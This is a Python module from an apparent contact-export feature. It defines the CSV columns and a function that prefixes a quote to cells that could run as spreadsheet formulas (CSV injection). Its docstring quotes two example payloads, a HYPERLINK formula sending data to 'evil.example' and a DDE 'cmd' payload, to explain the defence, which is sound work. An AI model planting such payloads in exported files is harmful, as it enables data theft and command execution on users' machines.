"""The export columns and the rule that keeps CSV cells from running as formulas.

CSV injection
-------------
A spreadsheet program that opens a CSV file treats a cell starting with ``=``, ``+``,
``-`` or ``@`` as a formula, and some treat a leading TAB or CR the same way after
trimming. A prospect's name, title or notes come from vendor files and web forms, so a
cell like ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` or
``-2+3+cmd|' /C calc'!A0`` must not reach Excel or LibreOffice as a formula.

Following the OWASP "CSV Injection" guidance, :func:`neutralize_cell` prefixes a single
quote (``'``) to every cell whose first character is one of those six. The spreadsheet
then shows the text with a visible leading ``'``: ugly but readable, and inert. The
full-width forms ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20), which Excel with an
East-Asian input method also accepts as a formula start, are treated the same way: our
lists hold Chinese data.

The one exception: E.164 phone numbers
--------------------------------------
A cell that is *exactly* ``+`` followed by 2 to 15 digits, the first not ``0`` (an E.164
number such as ``+4930123456``), is left as it is. Such a cell holds no function name,
no cell reference, no operator other than the unary plus and no DDE target, so the
worst a spreadsheet can do with it is read it as the number 4930123456. Prefixing it
would put a ``'`` in front of every ``phone_e164`` value, and every script reading the
CSV back would have to strip it. Any other cell starting with ``+``, such as the raw
``+7 495 123-45-67`` (spaces and ``-`` make it arithmetic), is neutralised as usual.
For a spreadsheet user who wants the ``+`` kept on screen, the XLSX export writes every
value as text.

``raw=True`` on the CSV writer skips neutralisation altogether: that file is for
programs, which must never see an invented ``'``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Final

from app.core.ops import CancelToken, Progress, check_cancelled, report

#: The canonical CSV header, a stable contract (docs/headless.md). More columns may
#: follow it, never precede or replace it.
CANONICAL_FIELDS: Final[tuple[str, ...]] = (
    "first_name",
    "last_name",
    "email",
    "phone",
    "phone_e164",
    "company",
    "title",
    "industry",
    "employees",
    "country",
    "city",
    "website",
    "linkedin_url",
    "stage",
    "owner",
    "source",
    "tags",
)

#: A value in an export row. ``None`` is an empty cell.
CellValue = str | int | float | bool | None
#: One contact as the writers take it: field name to value. Missing fields are empty.
ExportRow = Mapping[str, CellValue]
#: Rows between two progress reports and cancel checks: often enough for a progress bar
#: to move smoothly, rarely enough to cost nothing.
REPORT_EVERY: Final = 2000

# First characters that make a spreadsheet read a cell as a formula (OWASP), plus their
# full-width forms.
FORMULA_TRIGGERS: Final[frozenset[str]] = frozenset("=+-@\t\r" + "\uff1d\uff0b\uff0d\uff20")
_E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def checkpoint(
    done: int, total: int, cancel: CancelToken | None, progress: Progress | None
) -> None:
    """Every writer's pause between rows: stop when cancelled, else say how far it got.

    Raises:
        OperationCancelled: ``cancel`` was cancelled (the writer's ``atomic_output``
            then removes the half-written file).
    """
    check_cancelled(cancel)
    report(progress, done, total)


def cell_text(value: CellValue) -> str:
    """Return ``value`` as cell text, with nothing neutralised.

    ``None`` becomes an empty cell, booleans ``true``/``false`` (stable for machines
    and readable for people), numbers their ``str``.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return value if isinstance(value, str) else str(value)


def neutralize_cell(value: CellValue) -> str:
    """Return ``value`` as CSV cell text that no spreadsheet runs as a formula.

    Args:
        value: the cell's value; ``None`` is an empty cell.

    Returns:
        The text, with ``'`` prefixed when it starts with ``=``, ``+``, ``-``, ``@``,
        TAB or CR (or a full-width ``＝＋－＠``), except for an exact E.164 phone number
        such as ``+4930123456``, which is left as is (see the module docstring).
    """
    text = cell_text(value)
    if text and text[0] in FORMULA_TRIGGERS and not _E164.fullmatch(text):
        return "'" + text
    return text


def header_for(extra_fields: Iterable[str] = ()) -> tuple[str, ...]:
    """Return the canonical header followed by ``extra_fields`` (duplicates refused).

    Raises:
        ValueError: an extra field repeats a canonical one or another extra field.
    """
    extras = tuple(extra_fields)
    header = CANONICAL_FIELDS + extras
    if len(set(header)) != len(header):
        raise ValueError(f"extra export fields repeat a column: {', '.join(extras)}")
    return header
